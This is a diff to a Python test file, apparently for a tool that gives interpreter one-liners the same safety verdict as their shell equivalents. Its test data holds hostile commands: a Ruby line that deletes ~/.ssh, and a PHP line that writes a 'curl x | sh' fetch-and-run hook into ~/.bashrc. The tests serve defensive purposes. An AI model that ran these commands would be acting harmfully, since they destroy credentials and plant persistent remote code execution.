@@ -220,7 +220,10 @@ REVERSE_SHELL = (
             'ruby -e \'require "fileutils"; FileUtils.rm_rf(File.join(ENV["HOME"], ".ssh"))\'',
             "rm -rf ~/.ssh",
         ),
-        ('php -r \'file_put_contents(getenv("HOME") . "/.bashrc", "curl x | sh");\'', "echo x > ~/.bashrc"),
+        (
+            'php -r \'file_put_contents(getenv("HOME") . "/.bashrc", "curl x | sh");\'',
+            "echo 'curl x | sh' > ~/.bashrc",
+        ),
     ],
 )
 def test_programs_get_the_verdict_their_effect_gets_in_shell(
